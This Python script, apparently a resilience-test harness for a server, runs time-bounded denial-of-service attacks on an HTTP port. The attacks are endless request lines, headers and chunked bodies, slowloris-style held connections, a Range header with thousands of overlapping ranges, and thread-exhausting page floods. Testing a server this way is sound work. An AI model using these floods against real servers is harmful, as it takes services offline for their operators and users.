#!/usr/bin/env python3
"""Attacks on a server's HTTP port, each bounded in time: attack_http.py KIND HOST:PORT SECONDS.

  request-line, headers, body   without an end, on eight connections that come back when they are cut
  slow      hundreds of connections that send a byte now and then
  ranges    /metrics in thousands of pieces, by readers who do not read
  pages     more requests for pages than there are threads, again and again

It prints what it did and ends with 0; whether the server withstood is for others to say.
"""

import socket
import sys
import threading
import time

STRANGER = "127.0.0.2"


class Attack:
    def __init__(self, address, seconds):
        host, port = address.rsplit(":", 1)
        self.address = host, int(port)
        self.end = time.monotonic() + seconds
        self.sent = self.received = self.cut = 0

    def going_on(self):
        return time.monotonic() < self.end

    def connect(self):
        sock = socket.create_connection(self.address, timeout=1, source_address=(STRANGER, 0))
        return sock

    def endless(self, begin, more):
        while self.going_on():
            try:
                with self.connect() as sock:
                    sock.sendall(begin)
                    while self.going_on():
                        sock.sendall(more)
                        self.sent += len(more)
            except OSError:
                self.cut += 1
                time.sleep(0.01)

    def request_line(self):
        self.endless(b"GET /", b"x" * 65536)

    def headers(self):
        self.endless(b"GET /metrics HTTP/1.1\r\n", b"".join(b"x%d: y\r\n" % i for i in range(4000)))

    def body(self):
        self.endless(b"POST /metrics HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"x" * 65536 + b"\r\n")

    def slow(self):
        held = []
        while self.going_on():
            if len(held) < 50:
                try:
                    held.append(self.connect())
                    self.sent += 1
                except OSError:
                    pass
            for sock in list(held):
                try:
                    sock.sendall(b"G")
                except OSError:
                    held.remove(sock)
                    self.cut += 1
            time.sleep(0.05)

    def ranges(self):
        want = (b"GET /metrics HTTP/1.1\r\nHost: x\r\nRange: bytes=" + b",".join([b"0-"] * 2500) + b"\r\n\r\n")
        while self.going_on():
            try:
                with self.connect() as sock:
                    for _ in range(50):
                        sock.sendall(want)
                    time.sleep(0.5)
                    self.received += len(sock.recv(1 << 16))
            except OSError:
                self.cut += 1

    def pages(self):
        while self.going_on():
            try:
                with self.connect() as sock:
                    sock.settimeout(20)
                    sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                    self.received += len(sock.recv(1 << 16))
            except OSError:
                self.cut += 1


def main():
    kind, address, seconds = sys.argv[1:]
    attack = Attack(address, float(seconds))
    attackers = [threading.Thread(target=getattr(attack, kind.replace("-", "_")), daemon=True)
                 for _ in range(48 if kind == "pages" else 8)]
    for attacker in attackers:
        attacker.start()
    time.sleep(max(0.0, attack.end - time.monotonic()))
    print("%s: sent %d, received %d, cut %d times" % (kind, attack.sent, attack.received, attack.cut))


if __name__ == "__main__":
    main()
